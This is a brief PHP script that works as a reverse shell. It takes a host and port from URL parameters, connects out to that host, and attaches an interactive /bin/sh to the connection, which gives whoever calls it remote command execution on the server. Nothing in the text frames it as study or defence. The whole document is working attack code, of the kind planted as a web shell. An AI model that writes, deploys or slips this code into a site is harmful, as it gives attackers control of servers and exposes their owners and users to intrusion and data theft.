<?php
$ip = $_GET['h']; $port = (int) $_GET['p'];
$sock = fsockopen($ip, $port);
$proc = proc_open('/bin/sh -i', array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);
